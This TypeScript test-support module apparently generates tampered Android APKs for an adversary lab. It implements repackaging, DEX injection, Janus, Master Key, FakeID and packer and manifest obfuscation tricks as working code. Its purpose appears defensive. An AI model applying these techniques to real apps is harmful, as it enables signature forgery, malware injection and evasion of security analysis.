/**
 * Alters APKs as attackers have: each function is one trick of the field, over an APK or its entries, and says in which platforms it worked.
 * For tests and the adversary lab; what it takes is in `forge/apk.ts`.
 */
import { bytesSource, concatBytes, type HashPort } from '../bytes/index.ts';
import { readAxml, u32s, writeDex } from '../formats/apk/index.ts';
import { openEntry, readZip, writeZip, type ZipPart } from '../formats/archive/index.ts';
import { type ApkSigner, type ApkSigning, forgeApk } from './apk.ts';

/** The entries of an APK, without its signature: what an attacker starts from. */
export async function unsignedParts(apk: Uint8Array): Promise<readonly ZipPart[]> {
  const source = bytesSource(apk);
  const { value: zip } = await readZip(source);
  const parts: ZipPart[] = [];
  for (const entry of zip.entries) {
    if (/^META-INF\/(?:MANIFEST\.MF|.*\.(?:SF|RSA|DSA|EC))$/.test(entry.name)) continue;
    parts.push({ name: entry.name, data: await openEntry(source, entry, undefined), deflate: entry.method !== 0 });
  }
  return parts;
}

/** Signs another's app anew: every scheme verifies, and the signer is somebody else. */
export async function repackage(apk: Uint8Array, signing: ApkSigning, hash: HashPort): Promise<Uint8Array> {
  return forgeApk(await unsignedParts(apk), signing, hash);
}

/** Adds a DEX file with one class, and signs anew where a signing is given; without one the signature breaks. */
export async function injectDex(apk: Uint8Array, hash: HashPort, signing: ApkSigning | undefined): Promise<Uint8Array> {
  const extra: ZipPart = {
    name: 'classes2.dex',
    data: writeDex({ classes: ['Lcom/injected/Payload;'], strings: [] }, hash),
    deflate: true,
  };
  if (signing !== undefined) return forgeApk([...(await unsignedParts(apk)), extra], signing, hash);
  return appendEntries(apk, [extra]);
}

/** Janus, CVE-2017-13156: code before the archive, with every offset moved, so that v1 still verifies. Platforms from API 21 to 27, before 2017-12. */
export async function janus(apk: Uint8Array, hash: HashPort): Promise<Uint8Array> {
  const dex = writeDex({ classes: ['Lcom/injected/Janus;'], strings: [] }, hash);
  const { value: zip } = await readZip(bytesSource(apk));
  const out = concatBytes([dex, apk]);
  const view = new DataView(out.buffer);
  for (const entry of zip.entries) view.setUint32(dex.length + entry.centralAt + 42, entry.localAt + dex.length, true);
  view.setUint32(dex.length + zip.endAt + 16, zip.centralAt + dex.length, true);
  // The runtime checks the stated size against the file.
  view.setUint32(32, out.length, true);
  return out;
}

/**
 * Master Key, bug 8219321 (CVE-2013-4787): a second entry of the same name. The verifier took the last, the loader the first. Before Android 4.3.
 */
export async function masterKeyDuplicate(apk: Uint8Array, name: string, data: Uint8Array): Promise<Uint8Array> {
  const parts = await allParts(apk);
  return writeZip([{ name, data, deflate: true }, ...parts]);
}

/**
 * Master Key, bug 9695860 (CVE-2013-4787's sequel): an extra field so long that Java read its length as negative. The verifier found the original data
 * behind the header, the loader the attacker's behind 64 KiB. Before Android 4.3.1.
 */
export async function masterKeyExtra(apk: Uint8Array, name: string, data: Uint8Array): Promise<Uint8Array> {
  const parts = await allParts(apk);
  return writeZip(parts.map((part) => (part.name === name ? { name, data, local: { extra: new Uint8Array(0xfffd) } } : part)));
}

/** Master Key, bug 9950697: the local header's name is longer than the directory's, so that data begins elsewhere for those who trust either. Before 4.4. */
export async function masterKeyName(apk: Uint8Array, name: string, data: Uint8Array): Promise<Uint8Array> {
  const parts = await allParts(apk);
  return writeZip(parts.map((part) => (part.name === name ? { name, data, local: { name: name + '\0'.repeat(64) } } : part)));
}

/** FakeID, bug 13678484: signed by one's own key, with a chain that claims, by name alone, to come from another. Platforms from 2.1 to 4.4.3. */
export async function fakeId(
  parts: readonly ZipPart[],
  { claimant, victimCertificate }: { readonly claimant: ApkSigner; readonly victimCertificate: Uint8Array },
  hash: HashPort,
): Promise<Uint8Array> {
  return forgeApk(parts, { v1: { signers: [claimant], digest: 'sha1', extraCertificates: [victimCertificate] } }, hash);
}

/** What a packer does to archives so that tools stop and Android does not. */
export type PackerTrick = 'encrypted-flag' | 'odd-method' | 'forged-sizes' | 'long-name' | 'file-and-folder' | 'second-end';

/** Plays a packer's trick on every entry, or on the archive. Signatures of v1 survive most of them, those of v2 none. */
export async function packerTrick(apk: Uint8Array, trick: PackerTrick): Promise<Uint8Array> {
  const parts = await allParts(apk);
  switch (trick) {
    case 'encrypted-flag':
      return writeZip(parts.map((part) => ({ ...part, local: { flags: 1 }, central: { flags: 1 } })));
    case 'odd-method':
      return writeZip(
        parts.map((part) => (part.deflate === true ? { ...part, local: { method: 0x7b05 }, central: { method: 0x7b05 } } : part)),
      );
    case 'forged-sizes':
      return writeZip(parts.map((part) => ({ ...part, local: { size: 0x7fffffff, compressedSize: 0x7ffffffe } })));
    case 'long-name':
      return writeZip([...parts, { name: `assets/${'a'.repeat(65_000)}`, data: new Uint8Array(1) }]);
    case 'file-and-folder':
      return writeZip([...parts, { name: 'AndroidManifest.xml/x', data: new Uint8Array(1) }]);
    case 'second-end':
      return writeZip(parts, { comment: concatBytes([u32s(0x06054b50, 0, 0, 0, 0), new Uint8Array(2)]) });
  }
}

/** What obfuscators do to compiled XML. */
export type AxmlTrick = 'type' | 'file-size' | 'string-count' | 'unknown-chunk' | 'attribute-size' | 'zero-end';

/** Plays a trick on a compiled manifest that Android reads all the same. */
export function axmlTrick(manifest: Uint8Array, trick: AxmlTrick): Uint8Array {
  const out = new Uint8Array(manifest);
  const view = new DataView(out.buffer);
  switch (trick) {
    case 'type':
      view.setUint16(0, 0, true);
      return out;
    case 'file-size':
      view.setUint32(4, 0x42424242, true);
      return out;
    case 'string-count':
      view.setUint32(16, 0x7fffffff, true);
      return out;
    case 'unknown-chunk':
      return concatBytes([manifest.subarray(0, 8), u32s(0x00080999, 16, 0xdeadbeef, 0), manifest.subarray(8)]);
    case 'attribute-size':
      return widenAttributes(manifest);
    case 'zero-end':
      view.setUint32(out.length - 20, 0, true);
      return out;
  }
}

/** Makes the root's attributes 24 bytes apart, with rubbish between: Android takes the stated stride. */
function widenAttributes(manifest: Uint8Array): Uint8Array {
  readAxml(manifest);
  const view = new DataView(manifest.buffer, manifest.byteOffset, manifest.byteLength);
  let at = 8;
  while (at + 8 <= manifest.length && view.getUint16(at, true) !== 0x0102) at += view.getUint32(at + 4, true);
  const size = view.getUint32(at + 4, true);
  const count = view.getUint16(at + 28, true);
  const attributes = Array.from({ length: count }, (_, index) =>
    concatBytes([manifest.subarray(at + 36 + 20 * index, at + 56 + 20 * index), u32s(0x99999999)]),
  );
  const head = new Uint8Array(manifest.subarray(at, at + 36));
  const headView = new DataView(head.buffer);
  headView.setUint32(4, size + 4 * count, true);
  headView.setUint16(26, 24, true);
  return concatBytes([manifest.subarray(0, at), head, ...attributes, manifest.subarray(at + size)]);
}

/** All entries as they are, signature included. */
async function allParts(apk: Uint8Array): Promise<readonly ZipPart[]> {
  const source = bytesSource(apk);
  const { value: zip } = await readZip(source);
  return Promise.all(
    zip.entries.map(async (entry) => ({ name: entry.name, data: await openEntry(source, entry, undefined), deflate: entry.method !== 0 })),
  );
}

/** Adds entries and keeps everything else, signing block and all, where it was. */
async function appendEntries(apk: Uint8Array, parts: readonly ZipPart[]): Promise<Uint8Array> {
  return writeZip([...(await allParts(apk)), ...parts]);
}
